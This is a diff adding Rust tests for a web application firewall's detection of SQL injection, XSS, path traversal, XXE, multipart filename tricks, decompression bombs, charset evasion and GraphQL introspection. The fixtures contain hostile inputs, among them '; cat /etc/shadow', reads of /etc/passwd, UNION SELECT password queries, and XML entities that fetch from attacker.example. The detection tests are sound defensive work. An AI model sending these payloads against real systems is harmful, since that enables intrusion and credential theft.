@@ -107,11 +107,94 @@ fn headers_cookies_and_scanners() {
         get(&c, "/", &[("referer", "javascript:alert(1)")]).reason,
         "xss_detected"
     );
-    // Headers not configured are not inspected.
+}
+
+#[test]
+fn every_header_is_inspected_but_the_skipped_ones() {
+    let c = compiled("{}");
+    for (name, value) in [
+        ("x-note", "' or 1=1--"),
+        (
+            "x-forwarded-for",
+            "1.2.3.4' union select password from users--",
+        ),
+        ("x-api-version", "<script>alert(1)</script>"),
+        ("x-file", "../../../../etc/passwd"),
+        ("x-run", "; cat /etc/shadow"),
+        ("x-custom", "{{7*7}}${7*7}<%= 7*7 %>"),
+        ("origin", "javascript:alert(document.cookie)"),
+    ] {
+        let o = get(&c, "/", &[(name, value)]);
+        assert_eq!(o.verdict, Verdict::Deny, "{name}: {value}");
+        assert_eq!(o.top.unwrap().field, format!("header.{name}"));
+        assert!(o.detail.contains("headers"), "{}", o.detail);
+    }
+    // Skipped by default: credentials and structural headers (checked elsewhere).
+    for name in [
+        "authorization",
+        "proxy-authorization",
+        "accept-language",
+        "accept",
+    ] {
+        assert_eq!(
+            get(&c, "/", &[(name, "' or 1=1--")]).verdict,
+            Verdict::Allow,
+            "{name}"
+        );
+    }
+    // Pseudo-headers are the path and method, inspected as such, never twice.
     assert_eq!(
-        get(&c, "/", &[("x-note", "' or 1=1--")]).verdict,
+        get(&c, "/", &[(":path", "/?q=' or 1=1--")]).verdict,
         Verdict::Allow
     );
+    // The skip list is configurable: a replacement, exact names or prefixes.
+    let custom = compiled(r#"{"headers": {"skip": ["x-legacy-*", "authorization"]}}"#);
+    assert_eq!(
+        get(&custom, "/", &[("x-legacy-sql", "' or 1=1--")]).verdict,
+        Verdict::Allow
+    );
+    assert_eq!(
+        get(&custom, "/", &[("accept", "' or 1=1--")]).verdict,
+        Verdict::Deny
+    );
+}
+
+#[test]
+fn honest_headers_are_not_findings() {
+    let c = compiled("{}");
+    let browser = [
+        ("host", "shop.example.com"),
+        ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"),
+        ("user-agent", "curl/8.5.0"),
+        ("user-agent", "okhttp/4.12.0"),
+        ("user-agent", "python-requests/2.31.0"),
+        ("sec-ch-ua", "\"Not_A Brand\";v=\"8\", \"Chromium\";v=\"120\", \"Google Chrome\";v=\"120\""),
+        ("sec-ch-ua-platform", "\"Windows\""),
+        ("sec-fetch-mode", "cors"),
+        ("referer", "https://shop.example.com/search?q=red+shoes&page=2"),
+        ("cookie", "_ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc; theme=dark"),
+        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
+        ("tracestate", "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE"),
+        ("if-modified-since", "Wed, 21 Oct 2015 07:28:00 GMT"),
+        ("if-none-match", "W/\"0815-xyz\", \"67ab43\""),
+        ("x-forwarded-for", "203.0.113.195, 70.41.3.18, 150.172.238.178"),
+        ("x-forwarded-proto", "https"),
+        ("x-request-id", "f058ebd6-02f7-4d3f-942e-904344e8cde5"),
+        ("x-amzn-trace-id", "Root=1-67891233-abcdef012345678912345678"),
+        ("x-csrf-token", "i8XNjC4b8KVok4uw5RftR38Wgp2BFwql"),
+        ("forwarded", "for=192.0.2.60;proto=http;by=203.0.113.43"),
+        ("cache-control", "no-cache, no-store, max-age=0, must-revalidate"),
+        ("range", "bytes=200-1000, 2000-6576"),
+        ("x-idempotency-key", "order-2026-12-07/ada@example.com"),
+        ("dnt", "1"),
+        ("upgrade-insecure-requests", "1"),
+        ("origin", "https://shop.example.com"),
+        ("x-client-version", "ios/17.2 (build 4711; iPhone14,2)"),
+    ];
+    for (name, value) in browser {
+        let o = get(&c, "/", &[(name, value)]);
+        assert_eq!((o.verdict, o.score), (Verdict::Allow, 0), "{name}: {value}");
+    }
 }
 
 #[test]
@@ -280,16 +363,28 @@ fn multipart_fields_and_files() {
 fn unknown_content_types_follow_policy() {
     let text = compiled("{}");
     assert_eq!(
-        post(&text, "/x", "application/xml", b"<a>../../etc/passwd</a>").verdict,
+        post(
+            &text,
+            "/x",
+            "application/x-thing",
+            b"<a>../../etc/passwd</a>"
+        )
+        .verdict,
         Verdict::Deny
     );
     let allow = compiled(r#"{"unknown_content_type": "allow"}"#);
     assert_eq!(
-        post(&allow, "/x", "application/xml", b"<a>../../etc/passwd</a>").verdict,
+        post(
+            &allow,
+            "/x",
+            "application/x-thing",
+            b"<a>../../etc/passwd</a>"
+        )
+        .verdict,
         Verdict::Allow
     );
     let refuse = compiled(r#"{"unknown_content_type": "refuse"}"#);
-    let o = post(&refuse, "/x", "application/xml", b"<a/>");
+    let o = post(&refuse, "/x", "application/x-thing", b"<a/>");
     assert_eq!(
         (o.status, o.reason.as_str()),
         (415, "unsupported_media_type")
@@ -447,4 +542,260 @@ fn a_repeated_value_counts_in_every_field_with_that_fields_exclusions() {
     let o = post(&c, "/cms/pages", "application/json", excluded);
     assert_eq!(o.verdict, Verdict::Allow);
     assert_eq!(o.findings, 1);
+}
+
+fn post_with(c: &Compiled, hdrs: &[(&str, &str)], body: &[u8]) -> Outcome {
+    let len = body.len().to_string();
+    let mut h = headers(hdrs);
+    h.push(("content-length".into(), len));
+    let head = Head {
+        method: "POST",
+        authority: "api.example.com",
+        path: "/x",
+        headers: &h,
+        has_body: true,
+    };
+    match inspect_head(c, &head) {
+        Step::Done(o) => o,
+        Step::NeedBody(p) => inspect_body(c, &p, body),
+    }
+}
+
+#[test]
+fn multipart_parameter_tricks() {
+    let c = compiled("{}");
+    let ct = "multipart/form-data; boundary=B";
+    // RFC 2231/5987 extended parameters: the decoded name and filename are what servers use.
+    let star = b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.png\"; filename*=UTF-8''..%2F..%2Fshell.php\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\r\n--B--\r\n";
+    let o = post(&c, "/u", ct, star);
+    assert_eq!(o.verdict, Verdict::Deny, "{o:?}");
+    let name_star = b"--B\r\nContent-Disposition: form-data; name*=UTF-8''q%27%20union%20select%201--\r\n\r\nx\r\n--B--\r\n";
+    assert_eq!(post(&c, "/u", ct, name_star).verdict, Verdict::Deny);
+    // A part with two Content-Disposition lines: which one a server reads is anyone's guess.
+    let twice = b"--B\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\nx\r\n--B--\r\n";
+    let o = post(&c, "/u", ct, twice);
+    assert_eq!((o.status, o.reason.as_str()), (400, "multipart_ambiguous"));
+    // Two boundary parameters.
+    let o = post(
+        &c,
+        "/u",
+        "multipart/form-data; boundary=B; boundary=C",
+        b"--B\r\n\r\n--B--",
+    );
+    assert_eq!(
+        (o.status, o.reason.as_str()),
+        (400, "content_type_ambiguous")
+    );
+    // Content-Transfer-Encoding is not part of form-data (RFC 7578 4.7).
+    let cte = b"--B\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Transfer-Encoding: base64\r\n\r\nJyBvciAxPTEtLQ==\r\n--B--\r\n";
+    let o = post(&c, "/u", ct, cte);
+    assert_eq!((o.status, o.reason.as_str()), (400, "multipart_ambiguous"));
+    // An honest extended filename is decoded and allowed.
+    let ok = b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename*=UTF-8''r%C3%A9sum%C3%A9.pdf\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\r\n--B--\r\n";
+    assert_eq!(post(&c, "/u", ct, ok).verdict, Verdict::Allow);
+}
+
+#[test]
+fn xml_bodies_are_tokenized_and_external_entities_refused() {
+    let c = compiled("{}");
+    for ct in ["application/xml", "text/xml", "application/soap+xml"] {
+        let xxe = br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/x">]><r>&x;</r>"#;
+        let o = post(&c, "/x", ct, xxe);
+        assert_eq!((o.verdict, o.status), (Verdict::Deny, 403), "{ct} {o:?}");
+        assert_eq!(o.reason, "xml_entity_detected", "{ct}");
+        let param =
+            br#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>"#;
+        assert_eq!(post(&c, "/x", ct, param).reason, "xml_entity_detected");
+        let public = br#"<!DOCTYPE r PUBLIC "-//A//B" "http://attacker.example/r.dtd"><r/>"#;
+        assert_eq!(post(&c, "/x", ct, public).reason, "xml_entity_detected");
+        // An attribute value, entity-encoded, is decoded before the detectors see it.
+        let attr = br#"<a href="&#106;avascript:alert(1)">x</a>"#;
+        assert_eq!(post(&c, "/x", ct, attr).verdict, Verdict::Deny, "{ct}");
+        let soap = br#"<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><m:GetUser xmlns:m="urn:u"><m:id>1 UNION SELECT password FROM users--</m:id></m:GetUser></soap:Body></soap:Envelope>"#;
+        assert_eq!(post(&c, "/x", ct, soap).reason, "sqli_detected", "{ct}");
+        let cdata = b"<r><![CDATA[<script>alert(1)</script>]]></r>";
+        assert_eq!(post(&c, "/x", ct, cdata).reason, "xss_detected", "{ct}");
+        let honest = br#"<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><order id="42"><note>Tom &amp; Jerry's "best" mug &lt;3</note><price>12.99</price></order></soap:Body></soap:Envelope>"#;
+        let o = post(&c, "/x", ct, honest);
+        assert_eq!((o.verdict, o.score), (Verdict::Allow, 0), "{ct}");
+        let o = post(&c, "/x", ct, b"<r><unclosed></r>");
+        assert_eq!(
+            (o.status, o.reason.as_str()),
+            (400, "malformed_xml"),
+            "{ct}"
+        );
+    }
+}
+
+fn gzip(data: &[u8]) -> Vec<u8> {
+    use std::io::Write;
+    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    e.write_all(data).unwrap();
+    e.finish().unwrap()
+}
+
+fn zlib(data: &[u8]) -> Vec<u8> {
+    use std::io::Write;
+    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+    e.write_all(data).unwrap();
+    e.finish().unwrap()
+}
+
+#[test]
+fn compressed_bodies_are_inflated_or_refused() {
+    let c = compiled("{}");
+    let attack = br#"{"q":"1' UNION SELECT password FROM users--"}"#;
+    let json = ("content-type", "application/json");
+    let o = post_with(&c, &[json, ("content-encoding", "gzip")], &gzip(attack));
+    assert_eq!(o.reason, "sqli_detected", "{o:?}");
+    let o = post_with(&c, &[json, ("content-encoding", "deflate")], &zlib(attack));
+    assert_eq!(o.reason, "sqli_detected", "{o:?}");
+    let honest = br#"{"q":"red shoes"}"#;
+    let o = post_with(&c, &[json, ("content-encoding", "gzip")], &gzip(honest));
+    assert_eq!(o.verdict, Verdict::Allow, "{o:?}");
+    // A bomb: a megabyte of zeros compresses a thousandfold.
+    let bomb = gzip(&vec![b' '; 1 << 20]);
+    let o = post_with(&c, &[json, ("content-encoding", "gzip")], &bomb);
+    assert_eq!(
+        (o.status, o.reason.as_str()),
+        (413, "decompression_bomb"),
+        "{o:?}"
+    );
+    // Within the ratio but beyond the body limit once inflated.
+    let small = compiled(r#"{"body_limit": 1000, "max_decompression_ratio": 10000}"#);
+    let big = gzip(format!("{{\"a\":\"{}\"}}", "x".repeat(5000)).as_bytes());
+    let o = post_with(&small, &[json, ("content-encoding", "gzip")], &big);
+    assert_eq!(
+        (o.status, o.reason.as_str()),
+        (413, "body_too_large"),
+        "{o:?}"
+    );
+    let o = post_with(
+        &c,
+        &[json, ("content-encoding", "gzip")],
+        b"not gzip at all",
+    );
+    assert_eq!(
+        (o.status, o.reason.as_str()),
+        (400, "malformed_compressed_body")
+    );
+    for enc in ["br", "gzip, gzip", "zstd"] {
+        let o = post_with(&c, &[json, ("content-encoding", enc)], &gzip(honest));
+        assert_eq!(
+            (o.status, o.reason.as_str()),
+            (415, "unsupported_content_encoding"),
+            "{enc}"
+        );
+    }
+    let o = post_with(&c, &[json, ("content-encoding", "identity")], honest);
+    assert_eq!(o.verdict, Verdict::Allow);
+    let refuse = compiled(r#"{"compressed_bodies": "refuse"}"#);
+    let o = post_with(
+        &refuse,
+        &[json, ("content-encoding", "gzip")],
+        &gzip(honest),
+    );
+    assert_eq!(
+        (o.status, o.reason.as_str()),
+        (415, "unsupported_content_encoding")
+    );
+}
+
+fn utf16le(s: &str) -> Vec<u8> {
+    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
+}
+
+#[test]
+fn other_charsets_are_decoded_or_refused() {
+    let c = compiled("{}");
+    let attack = "q=1' UNION SELECT password FROM users--";
+    let form = "application/x-www-form-urlencoded; charset=utf-16le";
+    let o = post_with(&c, &[("content-type", form)], &utf16le(attack));
+    assert_eq!(o.reason, "sqli_detected", "{o:?}");
+    let mut bom = vec![0xff, 0xfe];
+    bom.extend(utf16le("<script>alert(1)</script>"));
+    let o = post_with(&c, &[("content-type", "text/plain; charset=utf-16")], &bom);
+    assert_eq!(o.reason, "xss_detected", "{o:?}");
+    let be: Vec<u8> = "<script>alert(1)</script>"
+        .chars()
+        .flat_map(|ch| (ch as u32).to_be_bytes())
+        .collect();
+    let o = post_with(&c, &[("content-type", "text/plain; charset=UTF-32BE")], &be);
+    assert_eq!(o.reason, "xss_detected", "{o:?}");
+    let latin = b"q=caf\xe9' union select 1--";
+    let o = post_with(
+        &c,
+        &[("content-type", "text/plain; charset=iso-8859-1")],
+        latin,
+    );
+    assert_eq!(o.reason, "sqli_detected", "{o:?}");
+    let o = post_with(
+        &c,
+        &[("content-type", "text/plain; charset=shift_jis")],
+        b"abc",
+    );
+    assert_eq!((o.status, o.reason.as_str()), (415, "unsupported_charset"));
+    let honest = utf16le("q=red shoes");
+    let o = post_with(&c, &[("content-type", form)], &honest);
+    assert_eq!(o.verdict, Verdict::Allow, "{o:?}");
+    let o = post_with(&c, &[("content-type", form)], &[0x41]);
+    assert_eq!((o.status, o.reason.as_str()), (400, "malformed_charset"));
+    let strict = compiled(r#"{"charsets": "utf8_only"}"#);
+    let o = post_with(&strict, &[("content-type", form)], &honest);
+    assert_eq!((o.status, o.reason.as_str()), (415, "unsupported_charset"));
+    let o = post_with(
+        &strict,
+        &[("content-type", "text/plain; charset=utf-8")],
+        b"ok",
+    );
+    assert_eq!(o.verdict, Verdict::Allow);
+}
+
+#[test]
+fn graphql_documents_are_inspected() {
+    let c = compiled(
+        r#"{"routes": [{"match": {"path": "/graphql"}, "refuse_graphql_introspection": true}]}"#,
+    );
+    let gql = |c: &Compiled, path: &str, body: &str| {
+        let len = body.len().to_string();
+        let h = headers(&[
+            ("content-type", "application/json"),
+            ("content-length", &len),
+        ]);
+        let head = Head {
+            method: "POST",
+            authority: "a",
+            path,
+            headers: &h,
+            has_body: true,
+        };
+        match inspect_head(c, &head) {
+            Step::Done(o) => o,
+            Step::NeedBody(p) => inspect_body(c, &p, body.as_bytes()),
+        }
+    };
+    // A string argument inside the document is a value like any other.
+    let q = r#"{"query":"{ user(name: \"x' UNION SELECT password FROM users--\") { id } }"}"#;
+    assert_eq!(gql(&c, "/graphql", q).reason, "sqli_detected");
+    let block =
+        r#"{"query":"mutation { post(body: \"\"\"<script>alert(1)</script>\"\"\") { id } }"}"#;
+    assert_eq!(gql(&c, "/graphql", block).reason, "xss_detected");
+    let intro = r#"{"query":"query { __schema { types { name } } }"}"#;
+    let o = gql(&c, "/graphql", intro);
+    assert_eq!(
+        (o.status, o.reason.as_str()),
+        (403, "graphql_introspection")
+    );
+    let aliased = r#"{"query":"{ a: __type(name: \"User\") { fields { name } } }"}"#;
+    assert_eq!(gql(&c, "/graphql", aliased).reason, "graphql_introspection");
+    // Not opted in: introspection is allowed elsewhere.
+    assert_eq!(gql(&c, "/other", intro).verdict, Verdict::Allow);
+    // A string that merely mentions __schema is not introspection.
+    let mention = r#"{"query":"{ search(text: \"__schema\") { id } }"}"#;
+    assert_eq!(gql(&c, "/graphql", mention).verdict, Verdict::Allow);
+    let honest = r#"{"query":"query Order($id: ID!) { order(id: $id) { id items(first: 10) { sku name } } }","variables":{"id":"42"},"operationName":"Order"}"#;
+    let o = gql(&c, "/graphql", honest);
+    assert_eq!((o.verdict, o.score), (Verdict::Allow, 0));
+    let bad = r#"{"query":"{ user(name: \"unterminated) { id } }"}"#;
+    assert_eq!(gql(&c, "/graphql", bad).reason, "malformed_graphql");
 }
